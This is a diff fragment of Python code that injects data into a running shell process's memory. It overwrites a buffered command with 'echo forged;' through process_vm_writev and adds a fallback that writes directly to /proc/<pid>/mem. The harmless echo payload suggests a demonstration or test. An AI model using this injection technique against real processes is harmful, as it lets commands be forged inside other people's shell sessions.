@@ -259,7 +259,9 @@ class Part(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', 
 new = ctypes.create_string_buffer(b'echo forged;'.ljust(len(own)), len(own))
 def write(place):
     ours, theirs = Part(ctypes.addressof(new), len(own)), Part(place, len(own))
-    ctypes.CDLL(None).process_vm_writev(int(shell), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
+    if ctypes.CDLL(None).process_vm_writev(int(shell), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) < 0:
+        with open(f'/proc/{shell}/mem', 'r+b', buffering=0) as memory:
+            memory.seek(place), memory.write(new.raw)
 with open(f'/proc/{shell}/maps') as maps, open(f'/proc/{shell}/mem', 'rb', buffering=0) as memory:
     for line in maps:
         place, rights = line.split()[:2]
